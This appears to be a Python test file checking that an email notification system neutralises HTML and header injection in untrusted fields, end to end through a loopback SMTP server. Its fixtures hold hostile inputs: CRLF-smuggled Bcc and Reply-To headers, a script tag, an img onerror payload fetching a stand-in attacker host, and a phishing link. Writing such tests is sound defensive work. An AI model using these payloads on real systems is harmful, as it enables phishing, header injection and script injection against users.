"""HTML and header injection through every untrusted field that reaches an email, end to end:
rendered, built, sent over SMTP to a real server on loopback, and read back from what it
received. Every field a user, a provider or a news outlet controls carries markup and CR/LF
header lines; what arrives has exactly the headers and recipients we set, and markup only
as text (escaped in the HTML part)."""

from __future__ import annotations

import datetime as dt
from email.message import EmailMessage
from html.parser import HTMLParser

from deallens.notify.content import DealMoveRow, FiredAlertRow, InsightRow, NewsRow
from deallens.notify.email import SmtpConfig, SmtpMailer
from deallens.notify.render import Renderer
from tests.smtp_sink import smtp_sink
from tests.test_notify_render import NOW, alert, build, digest, row

# A header break (CRLF, bare LF, bare CR), a Bcc and an invented header, and live markup.
INJECT = "\r\nBcc: thief@evil.example\r\nX-Injected: 1\n\rReply-To: thief@evil.example\r\n"
SCRIPT = "<script>alert('x')</script>"
IMG = '<img src=x onerror="fetch(\'//evil.example\')">'
LINK = '<a href="https://evil.example/login">verify your account</a>'


class _Tags(HTMLParser):
    """Every tag and attribute of an HTML document, and its text, as a browser would read them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.names: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


def hostile(label: str) -> str:
    return f"{label}{INJECT}{SCRIPT}{IMG}{LINK}"


def _sent(sink_messages: list[EmailMessage], count: int) -> list[EmailMessage]:
    assert len(sink_messages) == count
    return sink_messages


def _assert_clean(message: EmailMessage) -> None:
    assert message.defects == []
    for name in ("Bcc", "X-Injected", "Reply-To", "Cc"):
        assert message[name] is None, name
    to = message["To"]
    assert [a.addr_spec for a in to.addresses] == ["ana@example.com"]
    for name, value in message.items():
        assert "\n" not in str(value) and "\r" not in str(value), name
    html_part = message.get_body(("html",))
    text_part = message.get_body(("plain",))
    assert html_part is not None and text_part is not None
    html = html_part.get_content()
    # No live markup from any field: parsed as a browser would, no script, no event handler,
    # no link or image of theirs; the markup is there, as text.
    tags = _Tags()
    tags.feed(html)
    assert "script" not in tags.names
    assert not [name for name, _ in tags.attributes if name.startswith("on")]
    assert not [value for name, value in tags.attributes if "evil.example" in (value or "") or value == "x"]
    assert "<script>alert('x')</script>" in tags.text
    # The plain part says what the fields said, as text, without the header lines breaking it up.
    text = text_part.get_content()
    assert "\nBcc:" not in text and "\nX-Injected:" not in text


async def test_hostile_fields_reach_the_relay_only_as_text() -> None:
    renderer = Renderer()
    alert_email = renderer.render_alert(alert(
        alert_name=hostile("Alert"), company_name=hostile("Company"), message=hostile("Message"),
        user_name=hostile("User"),
    ))
    daily = renderer.render_digest(digest(
        user_name=hostile("User"),
        watchlist=[row(1, "AAPL", [200.0, 201.0], name=hostile("Company"))],
        alerts=[FiredAlertRow(alert_history_id=1, alert_name=hostile("Alert"), symbol="AAPL",
                              message=hostile("Message"), triggered_at=NOW)],
        news=[NewsRow(title=hostile("Title"), url="https://news.example.com/a", publisher=hostile("Publisher"),
                      published_at=NOW, sentiment_score=0.2, symbols=["AAPL"])],
        insights=[InsightRow(subject=hostile("Subject"), recommendation="hold", summary=hostile("Summary"),
                             created_at=NOW)],
    ))
    weekly = renderer.render_digest(digest(
        "weekly", period=dt.date(2026, 11, 29),
        deals=[DealMoveRow(title=hostile("Acquirer") + " to buy " + hostile("Target"), old_status=hostile("old"),
                           new_status="announced", event_type=hostile("event"), occurred_at=NOW)],
    ))
    for rendered in (alert_email, daily, weekly):
        assert "\n" not in rendered.subject and "\r" not in rendered.subject

    with smtp_sink() as sink:
        async with SmtpMailer(SmtpConfig(host=sink.host, port=sink.port, timeout=10)) as mailer:
            for number, rendered in enumerate((alert_email, daily, weekly), start=1):
                message = build(
                    rendered, to_name=hostile("Ana"), message_id=f"<n-{number}@deallens.example>",
                    headers={"X-DealLens-Kind": hostile("kind")},
                )
                await mailer.send(message)
        received = _sent(sink.messages, 3)
        # Who the relay was asked to deliver to: only the user, for each message.
        assert sink.envelopes == [["ana@example.com"]] * 3
    for message in received:
        _assert_clean(message)
    alert_msg, daily_msg, weekly_msg = received
    # The alert's subject carries the alert name, flattened to one line.
    assert "Alert Bcc: thief@evil.example X-Injected: 1" in str(alert_msg["Subject"])
    for message, words in ((daily_msg, ("Title", "Publisher", "Summary")), (weekly_msg, ("Acquirer",))):
        html = message.get_body(("html",)).get_content()  # type: ignore[union-attr]
        for word in words:
            assert f"{word}" in html
    # The user's name is kept as a display name, without the punctuation that could make it an address.
    assert alert_msg["To"].addresses[0].display_name.startswith("Ana Bcc thief evil.example X-Injected 1")
